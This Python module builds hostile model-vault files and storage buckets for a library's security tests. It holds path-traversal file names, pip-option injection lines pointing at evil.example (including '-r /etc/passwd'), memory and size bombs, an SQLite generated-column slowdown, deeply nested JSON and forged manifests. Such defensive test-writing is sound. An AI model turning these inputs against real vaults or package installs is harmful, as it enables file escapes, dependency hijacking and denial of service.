"""Hostile vault files and buckets (issue #18): one generator per attack.

Each generator builds, in a trial's folders (``Place``), what an attacker hands over:
a vault file made with the public API and then edited with plain sqlite3 (digests
recomputed, signatures dropped or left to fail, as anyone who can write the file can),
or a ``file://`` bucket made by push and then edited in place. It returns a
``Hostile`` record naming the version the attack sits in and what the honest owner
saved, and tests/test_hostile.py runs every command on it in a child process.

Where an attack has a family of values (unsafe file names, pip options, nesting
depths, log events), a hypothesis strategy here draws them; the issue's own example is
each generator's default. Imported by the tests as ``import hostile`` (pytest puts
tests/ on sys.path); it holds no tests itself.
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import shutil
import sqlite3
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from unittest import mock

import blake3
import numpy as np
from helpers import digest_parts, redigest, version_id
from hypothesis import strategies as st

import modelvault
from modelvault._trust import canonical_json

MIB = 1 << 20


@dataclass(frozen=True)
class Place:
    """The folders of one trial. ``work`` is the child's working folder and holds the
    hostile input; ``canary`` is a folder attacks aim at (a file written there is an
    escape); ``keys`` is this machine's modelvault home; ``attacker`` is the home of the
    attacker's own key, outside the trial."""

    work: Path
    canary: Path
    keys: Path
    attacker: Path


@dataclass(frozen=True)
class Hostile:
    """What a generator made.

    ``vault``: the hostile vault file (None for a bucket attack); ``url``: the hostile
    bucket (None for a file attack); ``ref`` the version the attack is in and ``other``
    an honest version of the same model (diff compares them); ``honest``: version id ->
    digest of every version as its owner saved it (a pull that brings one with another
    digest served a wrong model); ``owner``: for bucket attacks on pushes, the owner's
    vault, which pushes to the bucket; ``refuse``: the commands that must end in a typed
    error (a result would be wrong, not merely different); ``damaged``: verify must
    report it (or refuse the file); ``forged``: a version a key trusted here signed was
    edited since, so nothing may call it trusted (and verify must report it)."""

    attack: str
    ref: str
    other: str
    vault: Path | None = None
    url: str | None = None
    owner: Path | None = None
    honest: dict[str, str] = field(default_factory=dict)
    refuse: frozenset[str] = frozenset()
    damaged: bool = False
    forged: bool = False


@contextlib.contextmanager
def as_machine(home: Path) -> Iterator[None]:
    """Act as the machine whose modelvault home (signing key, trusted keys) is ``home``."""
    before = os.environ.get("MODELVAULT_HOME")
    os.environ["MODELVAULT_HOME"] = str(home)
    try:
        yield
    finally:
        if before is None:
            del os.environ["MODELVAULT_HOME"]
        else:
            os.environ["MODELVAULT_HOME"] = before


@contextlib.contextmanager
def edit(path: Path) -> Iterator[sqlite3.Connection]:
    """A plain sqlite3 connection to a vault file, committed and closed at the end."""
    db = sqlite3.connect(path, isolation_level=None)
    try:
        db.execute("BEGIN")
        yield db
        db.execute("COMMIT")
    finally:
        db.close()


def unsign(db: sqlite3.Connection, vid: int) -> None:
    """Drop a version's signature, as an attacker who cannot sign does."""
    db.execute("UPDATE versions SET key_id = NULL, signature = NULL WHERE id = ?", (vid,))


def _digests(path: Path) -> dict[str, str]:
    with modelvault.open(path, readonly=True) as vault:
        return {mv.id: mv.digest for mv in vault.versions()}


def _rng(seed: int = 0) -> np.random.Generator:
    return np.random.default_rng(seed)


# -- file names ------------------------------------------------------------------------

def unsafe_names() -> st.SearchStrategy[str]:
    """File names that are unsafe to extract on some system: a drive letter, a `..`
    segment, an absolute path, a backslash, a NUL byte, a reserved device name, a name
    too long for a file system."""
    segment = st.text("abcXYZ019._-", min_size=1, max_size=8).filter(
        lambda s: s not in (".", "..") and s[-1] not in ". ")
    folders = st.lists(segment, max_size=3).map(lambda parts: "".join(p + "/" for p in parts))
    drive = st.sampled_from("CDZcdz").map(lambda letter: f"{letter}:")
    return st.one_of(
        st.tuples(folders, drive, st.sampled_from(["", "/", "\\"]), segment).map("".join),
        st.tuples(folders, segment).map(lambda t: f"{t[0]}../{t[1]}"),
        st.tuples(folders, segment).map(lambda t: f"/{t[0]}{t[1]}"),
        st.tuples(segment, segment).map(lambda t: f"{t[0]}\\{t[1]}"),
        st.tuples(segment, segment).map(lambda t: f"{t[0]}\x00{t[1]}"),
        st.sampled_from(["NUL", "con.txt", "com1", "LPT9.bin", "aux"]),
        st.integers(256, 400).map(lambda n: "n" * n),
    )


def files_named(place: Place, names: list[str], attack: str) -> Hostile:
    """A files model: m:1 honest (ok.bin), m:2 whose files were renamed to ``names``
    (digest recomputed), both signed by the attacker's key, which is not trusted here."""
    path = place.work / "hostile.vault"
    source = place.attacker / "files"
    (source / "m2").mkdir(parents=True)
    (source / "m1").mkdir()
    (source / "m1" / "ok.bin").write_bytes(b"honest bytes")
    for i, _ in enumerate(names):
        (source / "m2" / f"f{i}").write_bytes(b"payload %d" % i)
    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save_files("m", source / "m1")
        vault.save_files("m", source / "m2")
    shutil.rmtree(source)
    with edit(path) as db:
        vid = version_id(db, "m", 2)
        for i, name in enumerate(names):
            db.execute("UPDATE parts SET name = ? WHERE version_id = ? AND name = ?",
                       (name, vid, f"f{i}"))
        layout = json.loads(db.execute("SELECT layout FROM versions WHERE id = ?",
                                       (vid,)).fetchone()[0])
        layout["files"] = [r[0] for r in db.execute(
            "SELECT name FROM parts WHERE version_id = ? ORDER BY part", (vid,))]
        db.execute("UPDATE versions SET layout = ? WHERE id = ?", (json.dumps(layout), vid))
        redigest(db, vid)
    return Hostile(attack, "m:2", "m:1", vault=path, refuse=frozenset({"extract"}))


def name_attack(name_of: Callable[[Place], list[str]], attack: str
                ) -> Callable[[Place], Hostile]:
    def make(place: Place) -> Hostile:
        return files_named(place, name_of(place), attack)
    make.__doc__ = f"A files version whose names are {attack}."
    return make


# -- selftest --------------------------------------------------------------------------

def selftest_tofile(place: Place) -> Hostile:
    """An arrays version (an ndarray, which has ``tofile``) whose saved example names the
    method ``tofile`` and, as its input, a path in the canary folder."""
    from modelvault import _selftest

    path = place.work / "hostile.vault"
    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save("m", np.arange(4.0))
        # What a forger's writer stores: the method and input of their choosing.
        with mock.patch.object(_selftest, "method_of", lambda model: "tofile"), \
                mock.patch.object(_selftest, "answer", lambda model, method, x: np.zeros(1)):
            vault.save("m", np.arange(4.0), example=np.str_(place.canary / "pwned.pth"))
    return Hostile("selftest calls tofile", "m:2", "m:1", vault=path,
                   refuse=frozenset({"selftest"}))


# -- the environment -------------------------------------------------------------------

def pip_options() -> st.SearchStrategy[str]:
    """Text that, on a line of its own in a requirements file, is a pip option."""
    option = st.sampled_from([
        "--index-url https://evil.example/simple", "--trusted-host evil.example",
        "-e git+https://evil.example/x.git#egg=x", "--extra-index-url http://evil.example",
        "-r /etc/passwd", "-c https://evil.example/c.txt"])
    return st.tuples(st.sampled_from(["\n", "\r", "\r\n", "\n \t"]), option).map("".join)


def env_injection(place: Place, injected: str = "\n--index-url https://evil.example/simple"
                  ) -> Hostile:
    """A version whose environment (Python, a package's name and another's version)
    carries newlines and pip options: what `modelvault env` prints is fed to pip."""
    from modelvault import _environment

    path = place.work / "hostile.vault"
    real = _environment.capture

    def forged(imports):
        record = real(imports)
        return {**record, "python": record["python"] + injected,
                "packages": {**record["packages"], f"numpy{injected}": "1.0",
                             "scipy": f"1.0{injected}"}}

    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save("m", {"w": np.arange(3.0)})
        with mock.patch.object(_environment, "capture", forged):
            vault.save("m", {"w": np.arange(4.0)})
    return Hostile("environment injects pip options", "m:2", "m:1", vault=path)


# -- size bombs ------------------------------------------------------------------------

def chunk_repeated(place: Place, times: int, kind: str = "arrays") -> Hostile:
    """One 1 MiB chunk listed ``times`` times in a version (a vault of a few MB whose
    version claims ``times`` MiB): an arrays version, or a files version."""
    path = place.work / "hostile.vault"
    data = _rng().random(MIB // 8)  # 1 MiB of float64: one chunk
    with as_machine(place.attacker), modelvault.open(path) as vault:
        if kind == "arrays":
            vault.save("m", {"w": np.zeros(4)})
            vault.save("m", {"w": data})
        else:
            source = place.attacker / "files"
            source.mkdir(parents=True)
            (source / "model.bin").write_bytes(b"honest")
            vault.save_files("m", source)
            (source / "model.bin").write_bytes(data.tobytes())
            vault.save_files("m", source)
            shutil.rmtree(source)
    with edit(path) as db:
        vid = version_id(db, "m", 2)
        chunks = [c for (c,) in db.execute(
            "SELECT chunk_id FROM part_chunks WHERE version_id = ? ORDER BY seq", (vid,))]
        size = db.execute("SELECT size FROM parts WHERE version_id = ?", (vid,)).fetchone()[0]
        db.execute("DELETE FROM part_chunks WHERE version_id = ?", (vid,))
        db.executemany("INSERT INTO part_chunks (version_id, part, seq, chunk_id) "
                       "VALUES (?, 0, ?, ?)",
                       ((vid, seq, chunk) for seq, chunk in enumerate(chunks * times)))
        db.execute("UPDATE parts SET size = ?, shape = CASE WHEN shape IS NULL THEN NULL "
                   "ELSE json_array(?) END WHERE version_id = ?",
                   (size * times, size * times // 8, vid))
        db.execute("UPDATE versions SET size = ? WHERE id = ?", (size * times, vid))
        redigest(db, vid)
        unsign(db, vid)
    return Hostile(f"one chunk listed {times:,} times ({kind})", "m:2", "m:1", vault=path,
                   refuse=frozenset({"load", "extract"}))


def params_dtype(place: Place) -> Hostile:
    """An xgboost version whose params hold an array of dtype "(16000,16000)f8": 1 KB
    that asks for 2 GB when the params are rebuilt."""
    import xgboost

    path = place.work / "hostile.vault"
    x = _rng().normal(size=(20, 3))
    model = xgboost.XGBClassifier(n_estimators=2, max_depth=2, n_jobs=1).fit(x, x[:, 0] > 0)
    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save("m", model)
        vault.save("m", model)
    with edit(path) as db:
        vid = version_id(db, "m", 2)
        layout = json.loads(db.execute("SELECT layout FROM versions WHERE id = ?",
                                       (vid,)).fetchone()[0])
        layout["params"]["dict"]["feature_weights"] = {"array": [0],
                                                       "dtype": "(16000,16000)f8"}
        db.execute("UPDATE versions SET layout = ? WHERE id = ?", (json.dumps(layout), vid))
        redigest(db, vid)
        unsign(db, vid)
    return Hostile("xgboost params of dtype (16000,16000)f8", "m:2", "m:1", vault=path,
                   refuse=frozenset({"load"}))


def subarray_dtype(place: Place) -> Hostile:
    """An arrays version whose part's dtype is "(16000,16000)<f8" (2 GB an item) over the
    bytes of one small array."""
    path = place.work / "hostile.vault"
    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save("m", {"w": np.arange(4.0)})
        vault.save("m", {"w": np.arange(8.0)})
    with edit(path) as db:
        vid = version_id(db, "m", 2)
        db.execute("UPDATE parts SET dtype = '(16000,16000)<f8', shape = '[]', itemsize = 8 "
                   "WHERE version_id = ?", (vid,))
        redigest(db, vid)
        unsign(db, vid)
    return Hostile("arrays part of dtype (16000,16000)<f8", "m:2", "m:1", vault=path,
                   refuse=frozenset({"load"}))


def stride_zero_view(place: Place) -> Hostile:
    """A torch tensor view with stride 0 and shape 2^20 x 2^20 over a 16-byte storage."""
    import torch

    path = place.work / "hostile.vault"
    weight = torch.arange(4.0)
    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save("m", {"a": weight, "b": weight[:2]})
        vault.save("m", {"a": weight, "b": weight[1:3]})
    with edit(path) as db:
        vid = version_id(db, "m", 2)
        text = db.execute("SELECT layout FROM versions WHERE id = ?", (vid,)).fetchone()[0]
        layout = json.loads(text)
        view = next(node for key, node in layout["odict" if "odict" in layout else "dict"]
                    if key == "b")
        assert "stride" in view, text  # a view of the storage "a" holds too
        view.update(shape=[1 << 20, 1 << 20], stride=[0, 0], offset=0)
        db.execute("UPDATE versions SET layout = ? WHERE id = ?", (json.dumps(layout), vid))
        redigest(db, vid)
        unsign(db, vid)
    return Hostile("tensor view of stride 0 and shape 2^20 x 2^20", "m:2", "m:1", vault=path,
                   refuse=frozenset({"load", "extract"}))


# -- the schema ------------------------------------------------------------------------

def stat1_generated_column(place: Place, width: int = 20_000_000, rows: int = 12_000
                           ) -> Hostile:
    """sqlite_stat1 (which the schema check lets through: ANALYZE's own table) redefined
    with writable_schema so that its ``stat`` column is generated by an expensive
    expression, which SQLite evaluates for every row when it first reads the schema:
    ``rows`` rows of ``width`` characters each, about 10 minutes of work per open."""
    path = place.work / "hostile.vault"
    with as_machine(place.attacker), modelvault.open(path) as vault:
        vault.save("m", {"w": np.arange(3.0)})
        vault.save("m", {"w": np.arange(4.0)})
    db = sqlite3.connect(path, isolation_level=None)
    try:
        db.execute("ANALYZE")
        db.execute("BEGIN")
        db.executemany("INSERT INTO sqlite_stat1 (tbl, idx, stat) VALUES ('models', ?, '1')",
                       ((f"i{i}",) for i in range(rows)))
        db.execute("COMMIT")
        db.execute("PRAGMA writable_schema = ON")
        db.execute("UPDATE sqlite_master SET sql = ? WHERE name = 'sqlite_stat1'",
                   ("CREATE TABLE sqlite_stat1(tbl,idx,stat AS "
                    f"(printf('%.*c', {width}, '7')))",))
    finally:
        db.close()
    return Hostile("sqlite_stat1 with an expensive generated column", "m:2", "m:1",
                   vault=path)


# -- JSON nested deep ------------------------------------------------------------------

def depths() -> st.SearchStrategy[int]:
    """Nesting depths past any recursion limit (Python's is 1,000; SQLite's JSON 1,000)."""
    return st.integers(1_000, 100_000)


def deep_json(depth: int, *, inner: str = "[]") -> str:
    """A JSON array nested ``depth`` deep, written without recursion."""
    return "[" * depth + inner + "]" * depth


def deep_layout(depth: int) -> str:
    """An arrays layout whose second entry is a list of a list of ... ``depth`` deep."""
    return ('{"dict":[["w",{"array":0}],["deep",' + '{"list":[' * depth + "]}" * depth
            + "]]}")


def _set_digest(db: sqlite3.Connection, vid: int, layout_text: str) -> None:
    """Store ``layout_text`` and the digest over it, as format.md defines the digest,
    without parsing it (Python's json would stop at its recursion limit, and a forger
    need not use Python)."""
    kind = db.execute("SELECT kind FROM versions WHERE id = ?", (vid,)).fetchone()[0]
    parts = canonical_json(digest_parts(db, vid))
    text = (b'{"kind":' + canonical_json(kind) + b',"layout":' + layout_text.encode()
            + b',"parts":' + parts + b"}")
    db.execute("UPDATE versions SET layout = ?, digest = ? WHERE id = ?",
               (layout_text, blake3.blake3(text).hexdigest(), vid))


DEEP_PLACES = ("layout", "metadata", "environment", "lineage")


def nested_deep(place: Place, where: str, depth: int = 50_000) -> Hostile:
    """JSON nested ``depth`` deep in a version's layout (digest recomputed over it),
    metadata, environment or lineage source. The version was signed by this machine
    and its signature left as it was, so reading its signature status parses it all."""
    path = place.work / "hostile.vault"
    with as_machine(place.keys), modelvault.open(path) as vault:
        vault.save("m", {"w": np.arange(3.0)})
        vault.save("m", {"w": np.arange(4.0)}, parent="m:1")
    with edit(path) as db:
        vid = version_id(db, "m", 2)
        if where == "layout":
            _set_digest(db, vid, deep_layout(depth))
        elif where == "metadata":
            db.execute("UPDATE versions SET metadata = ? WHERE id = ?",
                       ('{"deep":' + deep_json(depth) + "}", vid))
        elif where == "environment":
            env = db.execute("SELECT e.json FROM environments e JOIN versions v ON "
                             "v.environment_id = e.id WHERE v.id = ?", (vid,)).fetchone()[0]
            forged = env[:-1] + ',"deep":' + deep_json(depth) + "}"
            env_id = db.execute("INSERT INTO environments (json) VALUES (?)",
                                (forged,)).lastrowid
            db.execute("UPDATE versions SET environment_id = ? WHERE id = ?", (env_id, vid))
        elif where == "lineage":
            db.execute("UPDATE lineage SET source = ? WHERE version_id = ?",
                       ('{"script":' + deep_json(depth, inner='"x"') + "}", vid))
        else:
            raise ValueError(where)
    return Hostile(f"JSON nested {depth:,} deep in the {where}", "m:2", "m:1", vault=path,
                   forged=True)


def duplicate_keys(place: Place) -> Hostile:
    """Signed metadata {"acc": 0.1} rewritten as {"acc":0.99,"acc":0.1}: Python's json
    keeps the last (so the signature still holds), SQLite's json_extract the first."""
    path = place.work / "hostile.vault"
    with as_machine(place.keys), modelvault.open(path) as vault:
        vault.save("m", {"w": np.arange(3.0)}, metadata={"acc": 0.5})
        vault.save("m", {"w": np.arange(4.0)}, metadata={"acc": 0.1})
    with edit(path) as db:
        db.execute("UPDATE versions SET metadata = ? WHERE id = ?",
                   ('{"acc":0.99,"acc":0.1}', version_id(db, "m", 2)))
    return Hostile("duplicate keys in signed metadata", "m:2", "m:1", vault=path,
                   forged=True)


# -- damage ----------------------------------------------------------------------------

def truncated(place: Place, cut: int = 1000) -> Hostile:
    """A vault of a few MB with its last ``cut`` bytes cut off."""
    path = place.work / "hostile.vault"
    rng = _rng()
    with as_machine(place.attacker), modelvault.open(path) as vault:
        for i in range(3):
            vault.save("m", {"w": rng.normal(size=MIB // 8).astype(np.float32),
                             "b": np.arange(10 + i)})
    honest = _digests(path)
    with open(path, "r+b") as f:
        f.truncate(path.stat().st_size - cut)
    return Hostile(f"truncated by {cut:,} bytes", "m:3", "m:1", vault=path, honest=honest,
                   damaged=True)


# -- buckets ---------------------------------------------------------------------------

def _bucket(place: Place) -> tuple[Path, str]:
    """Where a bucket lives: deep enough that a `../..` from its packs/ lands in work."""
    folder = place.work / "bucket" / "remote"
    folder.parent.mkdir(parents=True, exist_ok=True)  # a push makes only the last folder
    return folder, f"file://{folder}"


def _owner(place: Place, versions: int = 2) -> Path:
    """The owner's vault: model m, ``versions`` versions of 1 MiB each, signed by this
    machine (the owner is the one running the commands)."""
    path = place.work / "owner.vault"
    rng = _rng(1)
    with as_machine(place.keys), modelvault.open(path) as vault:
        for _ in range(versions):
            vault.save("m", {"w": rng.random(MIB // 8)})
    return path


def _pushed(place: Place, refs: list[str] | None = None) -> tuple[Path, str, Path]:
    owner = _owner(place)
    folder, url = _bucket(place)
    with as_machine(place.keys), modelvault.open(owner) as vault:
        vault.push(url, refs)
    # The pack indexes this push kept: a colleague's machine, which runs the commands,
    # has not seen the bucket before (and reads it as the attacker left it).
    shutil.rmtree(place.keys / "cache", ignore_errors=True)
    return folder, url, owner


def _entries(folder: Path) -> list[Path]:
    return sorted((folder / "log").iterdir())


def _rewrite(path: Path, change: Callable[[dict], None]) -> None:
    value = json.loads(path.read_bytes())
    change(value)
    path.write_bytes(json.dumps(value, sort_keys=True, separators=(",", ":")).encode())


def append_entry(folder: Path, events: list[dict]) -> None:
    """Add the next log entry to the bucket in ``folder``, holding ``events``."""
    seq = len(_entries(folder)) + 1
    (folder / "log" / f"{seq:012d}.json").write_bytes(json.dumps(
        {"at": "2026-12-01T00:00:00+00:00", "by": "attacker@host", "events": events},
        sort_keys=True, separators=(",", ":")).encode())


def pushed_bucket(place: Place) -> Hostile:
    """An honest bucket: the owner's m:1 and m:2, pushed (the attacks below edit one)."""
    _, url, owner = _pushed(place)
    return Hostile("honest bucket", "m:2", "m:1", url=url, owner=owner,
                   honest=_digests(owner))


def huge_log_entry(place: Place, size: int = 6 << 30) -> Hostile:
    """The next log entry a sparse file of ``size`` bytes (6 GiB, a few KB on disk)."""
    folder, url, owner = _pushed(place)
    with open(folder / "log" / f"{len(_entries(folder)) + 1:012d}.json", "wb") as f:
        f.truncate(size)
    return Hostile("a 6 GiB log entry", "m:2", "m:1", url=url, owner=owner,
                   honest=_digests(owner))


def log_edited(place: Place, add: dict | None = None, extra: dict | None = None,
               attack: str = "an edited log") -> Hostile:
    """A pushed bucket whose log's add event of m:2 takes the fields ``add``, and which
    gets one more entry holding the event ``extra`` (its "uuid" m:2's id)."""
    folder, url, owner = _pushed(place)
    uuid = _uuid_of(owner, "m:2")
    if add:
        def edit_event(entry):
            for event in entry["events"]:
                if event.get("op") == "add" and event.get("uuid") == uuid:
                    event.update(add)
        _rewrite(_entries(folder)[0], edit_event)
    if extra is not None:
        append_entry(folder, [{**extra, "uuid": uuid}])
    return Hostile(attack, "m:2", "m:1", url=url, owner=owner, honest=_digests(owner))


def _uuid_of(path: Path, ref: str) -> str:
    with modelvault.open(path, readonly=True) as vault:
        return vault.get(ref).id


def log_edits() -> st.SearchStrategy[tuple[dict, dict | None]]:
    """Arguments of ``log_edited``: fields of the wrong size, type or meaning for an add
    event, and an alias or tag event (or none) with more of them."""
    number = st.one_of(st.integers(2**63 - 1, 2**80), st.integers(-2**80, 0),
                       st.floats(allow_nan=True), st.text(max_size=5), st.booleans())
    weird = st.one_of(st.none(), st.integers(-2**70, 2**70), st.floats(), st.text(max_size=20),
                      st.lists(st.integers(), max_size=2), st.dictionaries(
                          st.text(max_size=3), st.integers(), max_size=2))
    add = st.fixed_dictionaries({}, optional={"number": number, "created_at": weird,
                                              "kind": weird, "size": weird, "model": weird})
    extra = st.one_of(
        st.none(),
        st.fixed_dictionaries({"op": st.just("alias"), "model": st.just("m"),
                               "alias": st.one_of(st.just("latest"), st.text(max_size=30))}),
        st.fixed_dictionaries({"op": st.just("tag"), "key": st.text(max_size=30),
                               "value": weird}))
    return st.tuples(add, extra)


def pack_name(place: Place, name: str = "../../x") -> Hostile:
    """A pack index whose "pack" names ``../../x``: a key outside packs/."""
    folder, url, owner = _pushed(place)
    for index in (folder / "packs").glob("*.idx"):
        _rewrite(index, lambda idx: idx.update(pack=name))
    return Hostile(f"a pack named {name}", "m:2", "m:1", url=url, owner=owner,
                   honest=_digests(owner))


def precreated_manifest(place: Place) -> Hostile:
    """Before the owner pushes m:2, someone who can write to the bucket creates its
    manifest (versions/<uuid>.json): their own tensors (unsigned) under the owner's
    metadata, with their pack objects. The owner's push comes next (the command)."""
    folder, url, owner = _pushed(place, ["m:1"])
    target = _uuid_of(owner, "m:2")
    theirs = place.attacker / "theirs.vault"
    other_folder = place.attacker / "bucket"
    with as_machine(place.attacker), modelvault.open(theirs) as vault:
        vault.save("m", {"w": np.full(MIB // 8, 7.0)})
        vault.push(f"file://{other_folder}")
        uuid = vault.get("m:1").id
    manifest = json.loads((other_folder / "versions" / f"{uuid}.json").read_bytes())
    manifest["version"].update(uuid=target, key_id=None, signature=None)
    (folder / "versions" / f"{target}.json").write_bytes(json.dumps(manifest).encode())
    for pack in (other_folder / "packs").iterdir():
        shutil.copy(pack, folder / "packs" / pack.name)
    shutil.rmtree(other_folder)
    return Hostile("a manifest created before its owner pushed it", "m:2", "m:1", url=url,
                   owner=owner, honest=_digests(owner))


def bogus_pack_index(place: Place) -> Hostile:
    """A pack object (garbage) whose index claims the chunks of m:2, written before the
    owner pushed m:2: that push skipped them, so the bucket lists m:2 without its bytes.
    The owner pushing again (a command) should repair it."""
    folder, url, owner = _pushed(place, ["m:1"])
    with modelvault.open(owner, readonly=True) as vault:
        digest = vault.get("m:2").digest
    db = sqlite3.connect(f"{owner.as_uri()}?mode=ro", uri=True)
    try:
        rows = db.execute(
            "SELECT c.hash, c.size, c.codec, c.itemsize FROM part_chunks pc "
            "JOIN chunks c ON c.id = pc.chunk_id JOIN versions v ON v.id = pc.version_id "
            "WHERE v.digest = ?", (digest,)).fetchall()
    finally:
        db.close()
    garbage = b"\x00" * 4096
    name = blake3.blake3(garbage).hexdigest()
    (folder / "packs" / f"{name}.pack").write_bytes(garbage)
    (folder / "packs" / f"{name}.idx").write_bytes(json.dumps({
        "pack": name, "blobs": [[0, len(garbage), "raw", len(garbage)]],
        "chunks": [[h, size, codec, itemsize, None, 0, 0, 16] for h, size, codec, itemsize
                   in rows]}).encode())
    with as_machine(place.keys), modelvault.open(owner) as vault:
        with contextlib.suppress(modelvault.VaultError):  # once fixed, it may refuse
            vault.push(url)
    shutil.rmtree(place.keys / "cache", ignore_errors=True)
    return Hostile("an index claiming chunks in a bogus pack", "m:2", "m:1", url=url,
                   owner=owner, honest=_digests(owner))


def named_pipe(place: Place) -> Hostile:
    """The descriptor (modelvault-remote.json) replaced by a named pipe: a read that
    opens it waits for a writer forever."""
    folder, url, owner = _pushed(place)
    (folder / "modelvault-remote.json").unlink()
    os.mkfifo(folder / "modelvault-remote.json")
    return Hostile("a named pipe in the bucket", "m:2", "m:1", url=url, owner=owner,
                   honest=_digests(owner))


def manifest_bomb(place: Place, times: int = 3000) -> Hostile:
    """A version added to the bucket whose manifest lists m:1's 1 MiB chunk ``times``
    times (digest recomputed, unsigned)."""
    folder, url, owner = _pushed(place, ["m:1"])
    source = _uuid_of(owner, "m:1")
    manifest = json.loads((folder / "versions" / f"{source}.json").read_bytes())
    uuid = "0badf00d-0000-4000-8000-000000000000"
    part = manifest["parts"][0]
    part.update(size=part["size"] * times, shape=[part["shape"][0] * times])
    manifest["chunks"][0] = manifest["chunks"][0] * times
    parts = [{**{k: p[k] for k in ("kind", "name", "dtype", "shape", "fortran_order",
                                    "itemsize", "size")}, "chunks": chunks}
             for p, chunks in zip(manifest["parts"], manifest["chunks"], strict=True)]
    version = manifest["version"]
    layout = version["layout"] if isinstance(version["layout"], dict) else json.loads(
        version["layout"])
    version.update(uuid=uuid, size=part["size"], key_id=None, signature=None,
                   digest=blake3.blake3(canonical_json(
                       {"kind": version["kind"], "layout": layout, "parts": parts})
                   ).hexdigest())
    (folder / "versions" / f"{uuid}.json").write_bytes(json.dumps(manifest).encode())
    append_entry(folder, [{"op": "add", "model": "m", "uuid": uuid, "number": 2,
                            "created_at": version["created_at"], "kind": "arrays",
                            "size": part["size"]}])
    return Hostile(f"a manifest listing one chunk {times:,} times", "m:2", "m:1", url=url,
                   owner=owner, honest=_digests(owner),
                   refuse=frozenset({"pull", "cli pull", "clone", "cli clone"}))


# -- the catalogue ---------------------------------------------------------------------

ATTACKS: dict[str, Callable[[Place], Hostile]] = {
    "selftest tofile": selftest_tofile,
    "name x/D:/Windows/Temp/evil.dll": name_attack(
        lambda place: ["ok.bin", "x/D:/Windows/Temp/evil.dll"], "a drive path"),
    "name D:evil.txt": name_attack(lambda place: ["ok.bin", "D:evil.txt"],
                                   "a drive-relative name"),
    "name ..": name_attack(lambda place: ["ok.bin", "../../canary/dotdot.txt"], "a .. path"),
    "name absolute": name_attack(lambda place: ["ok.bin", str(place.canary / "absolute.txt")],
                                 "an absolute path"),
    "name backslash": name_attack(lambda place: ["ok.bin", "..\\..\\canary\\backslash.txt"],
                                  "a backslash path"),
    "names a and a/b": name_attack(lambda place: ["a", "a/b"], "a file where a folder is"),
    "name of 300 characters": name_attack(lambda place: ["ok.bin", "n" * 300],
                                          "a 300-character name"),
    "environment newlines": env_injection,
    "chunk x100000": functools.partial(chunk_repeated, times=100_000),
    "chunk x3000": functools.partial(chunk_repeated, times=3000),
    "chunk x3000 files": functools.partial(chunk_repeated, times=3000, kind="files"),
    "params dtype": params_dtype,
    "subarray dtype": subarray_dtype,
    "sqlite_stat1": stat1_generated_column,
    **{f"deep {where}": functools.partial(nested_deep, where=where) for where in DEEP_PLACES},
    "duplicate keys": duplicate_keys,
    "stride 0": stride_zero_view,
    "truncated": truncated,
    "bucket: 6 GiB log entry": huge_log_entry,
    "bucket: number 2**64": functools.partial(
        log_edited, add={"number": 2**64}, attack="an add event numbered 2**64"),
    "bucket: created_at 5": functools.partial(
        log_edited, add={"created_at": 5}, attack="an add event created at 5"),
    "bucket: alias latest": functools.partial(
        log_edited, extra={"op": "alias", "model": "m", "alias": "latest"},
        attack="an alias named latest"),
    "bucket: pack ../../x": pack_name,
    "bucket: pre-created manifest": precreated_manifest,
    "bucket: bogus pack index": bogus_pack_index,
    "bucket: chunk x3000 manifest": manifest_bomb,
    "bucket: named pipe": named_pipe,
}

# What each attack needs installed, where it needs more than modelvault's own packages.
NEEDS = {"params dtype": "xgboost", "stride 0": "torch"}
